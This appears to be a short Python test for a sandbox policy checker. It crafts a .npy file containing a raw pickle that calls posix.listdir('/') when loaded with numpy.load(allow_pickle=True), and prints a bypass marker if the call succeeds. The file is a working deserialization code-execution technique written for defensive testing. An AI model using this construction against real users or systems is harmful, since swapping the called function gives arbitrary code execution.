# (data policy) numpy.load(allow_pickle=True) unpickles a file the job wrote: a pickle names any
# module function (here posix.listdir) and calls it.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "103_numpy_load_pickle"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy

header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += " " * (64 - 10 - len(header) - 1) + "\n"
payload = b"cposix\nlistdir\n(S'/'\ntR."
with open("data.npy", "wb") as f:
    f.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + payload)
won(sorted(numpy.load("data.npy", allow_pickle=True))[:3])
